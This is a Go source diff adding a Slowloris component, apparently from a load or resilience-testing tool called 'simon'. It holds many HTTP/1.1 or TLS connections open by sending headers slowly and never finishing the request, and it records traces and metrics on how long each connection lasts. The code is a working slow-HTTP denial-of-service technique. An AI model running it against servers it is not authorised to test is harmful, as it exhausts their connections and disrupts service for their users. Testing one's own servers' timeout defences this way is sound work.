@@ -0,0 +1,177 @@
+package slow
+
+import (
+	"bufio"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"net"
+	"net/url"
+	"sync"
+	"time"
+
+	"github.com/go-faster/errors"
+	"github.com/go-faster/sdk/zctx"
+	"go.opentelemetry.io/otel/attribute"
+	"go.opentelemetry.io/otel/codes"
+	"go.opentelemetry.io/otel/metric"
+	"go.opentelemetry.io/otel/trace"
+	"go.uber.org/zap"
+)
+
+// SlowlorisOptions of Slowloris.
+type SlowlorisOptions struct {
+	// URL of server, https scheme uses TLS.
+	URL string
+	TLS *tls.Config
+	// Conns is number of held connections.
+	Conns int
+	// Interval between header lines.
+	Interval time.Duration
+}
+
+// Slowloris holds connections sending request headers slowly, never
+// finishing them, until server closes connection.
+type Slowloris struct {
+	opts     SlowlorisOptions
+	addr     string
+	host     string
+	tracer   trace.Tracer
+	duration metric.Float64Histogram
+}
+
+// NewSlowloris creates new Slowloris.
+func NewSlowloris(opts SlowlorisOptions, tracerProvider trace.TracerProvider, meterProvider metric.MeterProvider) (*Slowloris, error) {
+	u, err := url.Parse(opts.URL)
+	if err != nil {
+		return nil, errors.Wrap(err, "parse url")
+	}
+	if opts.Interval <= 0 {
+		opts.Interval = time.Second
+	}
+	s := &Slowloris{
+		opts:   opts,
+		addr:   u.Host,
+		host:   u.Hostname(),
+		tracer: tracerProvider.Tracer("simon.slow"),
+	}
+	if u.Port() == "" {
+		port := "80"
+		if u.Scheme == "https" {
+			port = "443"
+		}
+		s.addr = net.JoinHostPort(u.Hostname(), port)
+	}
+	if u.Scheme != "https" {
+		s.opts.TLS = nil
+	} else if s.opts.TLS == nil {
+		s.opts.TLS = &tls.Config{MinVersion: tls.VersionTLS12}
+	}
+	meter := meterProvider.Meter("simon.slow")
+	if s.duration, err = meter.Float64Histogram("simon.slow.slowloris.duration",
+		metric.WithDescription("Duration of slowloris connection until closed"),
+		metric.WithUnit("s"),
+	); err != nil {
+		return nil, errors.Wrap(err, "duration")
+	}
+	return s, nil
+}
+
+func (s *Slowloris) dial(ctx context.Context) (net.Conn, error) {
+	d := &net.Dialer{Timeout: 5 * time.Second}
+	if s.opts.TLS == nil {
+		return d.DialContext(ctx, "tcp", s.addr)
+	}
+	cfg := s.opts.TLS.Clone()
+	if cfg.ServerName == "" {
+		cfg.ServerName = s.host
+	}
+	// HTTP/1.1 only, HTTP/2 has no slowloris.
+	cfg.NextProtos = []string{"http/1.1"}
+	td := &tls.Dialer{NetDialer: d, Config: cfg}
+	return td.DialContext(ctx, "tcp", s.addr)
+}
+
+// conn holds single connection until it is closed.
+func (s *Slowloris) conn(ctx context.Context) (rerr error) {
+	ctx, span := s.tracer.Start(ctx, "slowloris.conn")
+	defer span.End()
+
+	start := time.Now()
+	result := "closed"
+	var headers int
+	defer func() {
+		if rerr != nil {
+			result = "error"
+			span.RecordError(rerr)
+			span.SetStatus(codes.Error, rerr.Error())
+		}
+		attrs := []attribute.KeyValue{attribute.String("result", result)}
+		s.duration.Record(ctx, time.Since(start).Seconds(), metric.WithAttributes(attrs...))
+		span.SetAttributes(append(attrs, attribute.Int("headers", headers))...)
+	}()
+
+	conn, err := s.dial(ctx)
+	if err != nil {
+		return errors.Wrap(err, "dial")
+	}
+	defer func() { _ = conn.Close() }()
+
+	// Server closes connection or responds with error on timeout.
+	closed := make(chan string, 1)
+	go func() {
+		line, _ := bufio.NewReader(conn).ReadString('\n')
+		closed <- line
+	}()
+
+	if _, err := fmt.Fprintf(conn, "GET /status HTTP/1.1\r\nHost: %s\r\nUser-Agent: simon-slowloris\r\n", s.host); err != nil {
+		return errors.Wrap(err, "write request line")
+	}
+	ticker := time.NewTicker(s.opts.Interval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-ctx.Done():
+			result = "canceled"
+			return nil
+		case line := <-closed:
+			if line != "" {
+				span.SetAttributes(attribute.String("http.response.line", line))
+			}
+			return nil
+		case <-ticker.C:
+			headers++
+			if _, err := fmt.Fprintf(conn, "X-Simon-Slowloris-%d: 1\r\n", headers); err != nil {
+				// Closed by server, not an error.
+				return nil
+			}
+		}
+	}
+}
+
+// Run holds connections until ctx is done.
+func (s *Slowloris) Run(ctx context.Context) error {
+	lg := zctx.From(ctx)
+	var wg sync.WaitGroup
+	for range s.opts.Conns {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for ctx.Err() == nil {
+				start := time.Now()
+				if err := s.conn(ctx); err != nil {
+					lg.Warn("Slowloris connection failed", zap.Error(err))
+				}
+				// Avoid busy loop if server rejects immediately.
+				if d := time.Since(start); d < s.opts.Interval {
+					select {
+					case <-time.After(s.opts.Interval - d):
+					case <-ctx.Done():
+					}
+				}
+			}
+		}()
+	}
+	wg.Wait()
+	return ctx.Err()
+}